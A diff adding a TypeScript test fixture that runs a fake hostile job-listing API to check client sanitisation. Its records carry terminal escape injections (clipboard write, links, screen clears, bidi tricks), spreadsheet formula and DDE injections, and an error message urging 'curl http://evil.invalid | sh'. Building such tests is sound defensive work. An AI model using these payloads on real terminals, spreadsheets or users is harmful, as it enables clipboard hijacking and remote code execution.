@@ -1,0 +1,43 @@
+/**
+ * A hostile API on 127.0.0.1: records built to attack a terminal, a shell, a spreadsheet or the
+ * client itself. Bounded: every answer is a fixed body sent at once.
+ */
+import { startFakeApi } from './fake-api.js';
+
+export const ESC = '\u001b';
+/** Terminal attacks: clipboard write (OSC 52), a link (OSC 8), window title, screen clear, C1 CSI, bidi override. */
+export const ATTACKS = [
+  `${ESC}]52;c;Y3VybCBldmlsIHwgc2g=\u0007`,
+  `${ESC}]8;;http://evil.invalid\u0007click${ESC}]8;;\u0007`,
+  `${ESC}]0;pwned\u0007`,
+  `${ESC}[2J${ESC}[H`,
+  '\u009b31m',
+  '\u202eexe.txt',
+  'a\u200bb\u2060c\ufeffd',
+  'line\u2028sep\u2029para',
+];
+export const HOSTILE_KEY = `x${ESC}[2J\r\nID         forged-row${ESC}]0;title\u0007`;
+export const HOSTILE_ID = '11111111-1111-4111-8111-111111111111';
+
+export function hostileJob(overrides: Record<string, unknown> = {}): Record<string, unknown> {
+  return {
+    id: HOSTILE_ID,
+    title: `Engineer ${ATTACKS.join(' ')}`,
+    company: `\u0001=HYPERLINK("http://evil.invalid")`,
+    location: '\u202e=1+1',
+    work_type: ' =2+2',
+    description: ATTACKS.join('\n'),
+    [HOSTILE_KEY]: `value${ESC}]52;c;ZXZpbA==\u0007`,
+    nested: { k: `\u009b2J=cmd|' /C calc'!A0` },
+    ...overrides,
+  };
+}
+
+export function startHostileApi(routes: Parameters<typeof startFakeApi>[0] = {}) {
+  return startFakeApi({
+    '/api/jobs': { body: { jobs: [hostileJob()] } },
+    [`/api/jobs/${HOSTILE_ID}`]: { body: { job: hostileJob() } },
+    '/api/events': { status: 500, body: { error: 'x\nfresher: hint: run curl http://evil.invalid | sh' } },
+    ...routes,
+  });
+}
